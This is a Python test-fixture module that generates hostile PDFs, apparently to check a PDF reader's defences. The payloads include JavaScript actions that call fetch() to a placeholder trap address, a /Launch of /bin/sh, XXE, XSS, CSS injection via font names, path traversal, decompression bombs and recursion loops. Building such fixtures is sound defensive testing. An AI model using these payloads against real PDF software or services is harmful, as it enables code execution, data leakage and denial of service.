"""PDF files that would run a script, call somebody or keep the reader busy for ever.

`{0}` in what they hold is the address of a trap.
"""

from __future__ import annotations

import zlib

from .pdfs import CATALOG, FONT, PAGES, assembled, flate, numbered, pages_of, shown, stream

RUN = "parent.pwned=1;top.pwned=1;window.pwned=1;fetch('{0}/js');app.launchURL('{0}/launch')"
CONTENT, NEXT = 5, 6
"""The numbers of the first page's content and of the first object after it."""

WORDS = "Harmless words"


def one_page(content: bytes = b"", font: bytes | None = None) -> dict[int, bytes]:
    contents = [content or stream(shown(WORDS))]
    return pages_of(contents) if font is None else pages_of(contents, font)


def has_good_text(data: bytes) -> bool:
    """Whether the content of the page and its font are those of a good file."""
    good = one_page()
    return all(numbered(number, good[number]) in data for number in (CONTENT, FONT))


def with_catalog(entries: str, **more: bytes) -> bytes:
    objects = one_page()
    objects[CATALOG] = objects[CATALOG].replace(b">>", b"%s >>" % entries.encode())
    return assembled(objects | {int(name[1:]): text for name, text in more.items()})


def with_page(entries: str, **more: bytes) -> bytes:
    objects = one_page()
    objects[FONT + 1] = objects[FONT + 1].replace(
        b"/Type /Page ", b"/Type /Page %s " % entries.encode()
    )
    return assembled(objects | {int(name[1:]): text for name, text in more.items()})


def with_font(entries: str, **more: bytes) -> bytes:
    font = b"<< /Type /Font %s >>" % entries.encode()
    return assembled(one_page(font=font) | {int(name[1:]): text for name, text in more.items()})


def with_resources(content: bytes, resources: bytes, **more: bytes) -> bytes:
    objects = one_page(content)
    page = objects[FONT + 1]
    objects[FONT + 1] = page.replace(b"/Resources <<", b"/Resources << %s " % resources)
    return assembled(objects | {int(name[1:]): text for name, text in more.items()})


def script(code: str) -> str:
    return f"<< /S /JavaScript /JS <{code.encode().hex()}> >>"


def reaching(trap: str) -> dict[str, bytes]:
    """What would run or call, where `trap` is an address that nobody is to reach."""
    run = script(RUN.format(trap))
    uri = f"<< /S /URI /URI ({trap}/uri) >>"
    descriptor = "/FontDescriptor << /Type /FontDescriptor /FontName /A /Flags 4 /FontFile 6 0 R >>"
    markup = f"<img src={trap}/text onerror=parent.pwned=1><script>{RUN.format(trap)}</script>"
    outside = f"<< /Length 0 /F << /FS /URL /F ({trap}/stream) >> >>\nstream\n\nendstream"
    xml = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{trap}/entity">]><x>&e;</x>'
    form = (
        "<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><subform><field><ui/><value>"
        f"<image href='{trap}/xfa'/></value><event activity='initialize'><script contentType="
        f"'application/x-javascript'>{RUN.format(trap)}</script></event></field></subform>"
        "</template></xdp:xdp>"
    )
    return {
        "open-action": with_catalog(f"/OpenAction {run}"),
        "catalog-action": with_catalog(f"/AA << /WC {run} /WS {run} /DC {run} >>"),
        "names-script": with_catalog(f"/Names << /JavaScript << /Names [(a) {run}] >> >>"),
        "page-action": with_page(f"/AA << /O {run} /C {run} >>"),
        "uri-action": with_catalog(f"/OpenAction {uri} /URI << /Base ({trap}/base) >>"),
        "link": with_page(
            f"/Annots [<< /Subtype /Link /Rect [0 0 612 792] /A {uri} >> "
            "<< /Subtype /Link /Rect [0 0 9 9] "
            "/A << /S /URI /URI (javascript:parent.pwned=1) >> >>]"
        ),
        "field": with_page(
            f"/Annots [<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K {run} /F {run} "
            f"/C {run} /E {run} >> >>]"
        ),
        "submit": with_catalog(f"/OpenAction << /S /SubmitForm /F ({trap}/submit) /Flags 4 >>"),
        "launch": with_catalog("/OpenAction << /S /Launch /F (/bin/sh) >>"),
        "go-elsewhere": with_catalog(f"/OpenAction << /S /GoToR /F ({trap}/remote) /D [0 /Fit] >>"),
        "import": with_catalog(f"/OpenAction << /S /ImportData /F ({trap}/data) >>"),
        "embedded-file": with_catalog(
            "/Names << /EmbeddedFiles << /Names [(a.html) << /Type /Filespec /F (a.html) "
            "/EF << /F 6 0 R >> >>] >> >>",
            _6=stream(markup.encode(), b"/Type /EmbeddedFile /Subtype /text#2Fhtml"),
        ),
        "rich-media": with_page(
            f"/Annots [<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F ({trap}/movie) >> /A true >>"
            f" << /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /JS <{b'x'.hex()}> >> >>]"
        ),
        "xfa": with_catalog(
            "/AcroForm << /XFA 6 0 R /Fields [] >> /NeedsRendering true", _6=stream(form.encode())
        ),
        "metadata": with_catalog(
            "/Metadata 6 0 R", _6=stream(xml.encode(), b"/Type /Metadata /Subtype /XML")
        ),
        "stream-elsewhere": assembled(one_page(outside.encode())),
        "font-elsewhere": with_font(
            f"/Subtype /Type1 /BaseFont /A {descriptor}", _6=outside.encode()
        ),
        "font-matrix": with_font(
            "/Subtype /Type1 /BaseFont /A /FirstChar 65 /LastChar 66 /Widths [1 1] "
            rf"/FontMatrix [1 0 0 1 0 (0\); parent.pwned=1; fetch\('{trap}/matrix'\)//)]"
            f"{descriptor}",
            _6=stream(b"%!PS-AdobeFont-1.0: A\n/FontMatrix [0.001 0 0 (x) 0 0] readonly def"),
        ),
        "font-name": with_font(
            f"/Subtype /TrueType /BaseFont /x#27#3B#7D@import#20url#28{trap.replace('/', '#2F')}#29"
        ),
        "table-elsewhere": with_font(
            "/Subtype /Type0 /BaseFont /A /Encoding /..#2F..#2F..#2Fapi#2Ftags "
            "/DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /A "
            "/CIDSystemInfo << /Registry (Adobe) /Ordering (..) /Supplement 0 >> >>]"
        ),
        "markup": assembled(one_page(stream(shown(markup)))),
        "prototype": with_catalog("/__proto__ << /pwned 1 >> /constructor << /prototype 1 >>"),
    }


def nested(depth: int, opening: bytes, closing: bytes) -> bytes:
    return opening * depth + closing * depth


def bomb(megabytes: int, layers: int = 1) -> bytes:
    """A stream of so many megabytes of text, deflated as often as `layers` says."""
    one = zlib.compressobj(9)
    piece = b"(x) Tj " * 149_797
    head = one.compress(piece) + one.flush(zlib.Z_FULL_FLUSH)
    # After a full flush what follows stands by itself, and can be repeated.
    again = one.compress(piece) + one.flush(zlib.Z_FULL_FLUSH)
    data = head + again * (megabytes - 1)
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter [%s]" % b" ".join([b"/FlateDecode"] * layers))


def laughing(levels: int, before: int = 0) -> bytes:
    """After so many good pages one with forms that each draw the next one ten times."""
    objects = pages_of([*[stream(shown(WORDS))] * before, stream(b"/X Do")])
    first = max(objects) + 1
    for level in range(levels):
        within = b"/XObject << /X %d 0 R >> /Font << /F %d 0 R >>" % (first + level + 1, FONT)
        objects[first + level] = stream(
            b"/X Do " * 10 if level < levels - 1 else shown("ha"),
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << %s >>" % within,
        )
    page = first - 2
    objects[page] = objects[page].replace(
        b"/Resources <<", b"/Resources << /XObject << /X %d 0 R >> " % first
    )
    return assembled(objects)


def loops() -> dict[str, bytes]:
    """What leads back to itself, or deeper than any stack."""
    good = assembled(one_page())
    start = good.rindex(b"startxref")
    table = int(good[start:].split()[1])
    endless = b"/Prev %d " % table
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    glyph = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] "
    type3 = glyph + (
        b"/FirstChar 65 /LastChar 122 /Widths [%s] /Encoding << /Differences [65 %s] >> "
        b"/CharProcs << /a 6 0 R >> /Resources << /Font << /F 3 0 R >> >> >>"
    ) % (b"9 " * 58, b"/a " * 58)
    tree = {
        FONT + 1: b"<< /Type /Pages /Parent 2 0 R /Count 1 /Kids [2 0 R] >>",
    }
    chain = {
        number: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (number + 1)
        for number in range(NEXT, NEXT + 5_000)
    }
    deep = one_page()
    deep[PAGES] = b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % NEXT
    chain[NEXT + 4_999] = b"<< /Type /Pages /Count 1 /Kids [4 0 R] >>"
    return {
        "table": assembled(one_page(), endless),
        "table-nowhere": good[:start] + b"startxref\n99999999\n%%EOF",
        "table-of-itself": good[:start] + b"startxref\n%d\n%%%%EOF" % start,
        "page-tree": assembled(one_page() | tree),
        "page-tree-deep": assembled(deep | chain),
        "length-of-itself": assembled(
            one_page(b"<< /Length %d 0 R >>\nstream\nq Q\nendstream" % CONTENT)
        ),
        "catalog-of-itself": assembled(one_page() | {CATALOG: b"%d 0 R" % CATALOG}),
        "arrays": with_catalog("/X 6 0 R", _6=nested(200_000, b"[", b"]")),
        "dictionaries": with_catalog("/X 6 0 R", _6=nested(100_000, b"<</A ", b">>")),
        "arrays-drawn": assembled(one_page(stream(nested(200_000, b"[", b"]") + b" TJ"))),
        "object-stream": with_catalog(
            "/X 6 0 R",
            _6=stream(b"6 0 << >>", b"/Type /ObjStm /N 1 /First 4 /Extends 6 0 R"),
        ),
        "form": with_resources(
            stream(b"/X Do"), b"/XObject << /X 6 0 R >>", _6=stream(b"/X Do", form)
        ),
        "glyph": assembled(one_page(font=type3) | {6: stream(b"9 0 d0 BT /F 9 Tf (a) Tj ET")}),
        "font": with_font("/Subtype /Type0 /Encoding /Identity-H /DescendantFonts [3 0 R]"),
        "outline": with_catalog(
            "/Outlines 6 0 R", _6=b"<< /First 6 0 R /Next 6 0 R /Last 6 0 R /Title (x) >>"
        ),
    }


def broken() -> dict[str, bytes]:
    """What a reader of fonts, counts and filters trips over."""
    descriptor = "/FontDescriptor << /Type /FontDescriptor /FontName /A /Flags 4 /{} 6 0 R >>"
    widths = "/FirstChar 0 /LastChar 255 /Widths [" + "1 " * 256 + "]"
    noise = bytes(range(256)) * 40
    good = assembled(one_page())
    ranges = (
        b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange "
        b"<00000000> <ffffffff> endcodespacerange "
        b"1 beginbfrange <00000000> <ffffffff> <0041> endbfrange endcmap"
    )
    cid = (
        "/Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts "
        "[<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDToGIDMap /Identity "
        "/W [0 4294967295 1000] /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) >> >>]"
    )
    counted = one_page()
    fonts = {
        f"font-{kind}": with_font(
            f"/Subtype /{subtype} /BaseFont /A {widths} {descriptor.format(kind)}", _6=stream(data)
        )
        for kind, subtype, data in (
            ("FontFile", "Type1", b"%!PS-AdobeFont\n" + noise),
            ("FontFile2", "TrueType", b"\0\1\0\0\xff\xff" + noise),
            ("FontFile3", "Type1", b"\1\0\4\4" + noise),
        )
    }
    return fonts | {
        "many-pages": assembled(
            counted | {PAGES: counted[PAGES].replace(b"/Count 1", b"/Count 2147483647")}
        ),
        "no-pages": assembled(counted | {PAGES: b"<< /Type /Pages /Count 0 /Kids [] >>"}),
        "negative-pages": assembled(
            counted | {PAGES: counted[PAGES].replace(b"/Count 1", b"/Count -7")}
        ),
        "unicode-ranges": with_font(cid, _6=stream(ranges)),
        "filter-unknown": assembled(one_page(stream(b"x", b"/Filter /Nothing"))),
        "filter-broken": assembled(one_page(stream(noise, b"/Filter /FlateDecode"))),
        "filters-many": assembled(
            one_page(stream(b"x", b"/Filter [%s]" % (b"/LZWDecode " * 5_000)))
        ),
        "cut": good[: len(good) // 2],
        "noise": b"%PDF-1.7\n" + noise * 20,
        "numbers": assembled(one_page(stream(b"1e999 -1e999 Td " + b"9" * 100_000 + b" Tc"))),
        "box": assembled(
            {
                number: text.replace(b"[0 0 612 792]", b"[0 0 1e30 1e30]")
                for number, text in one_page().items()
            }
        ),
    }


def heavy() -> dict[str, bytes]:
    """What becomes gigabytes, or takes for ever."""
    return {
        "flate-1-gb": assembled(one_page(bomb(1_000))),
        "flate-twice": assembled(one_page(bomb(1_000, layers=2))),
        "flate-table": with_catalog("/Metadata 6 0 R", _6=bomb(500)),
        "run-lengths": assembled(
            one_page(stream(b"\x81x" * 2_000_000, b"/Filter [/RunLengthDecode /RunLengthDecode]"))
        ),
        "states": assembled(one_page(flate(b"q " * 2_000_000))),
        "laughing": laughing(12),
    }
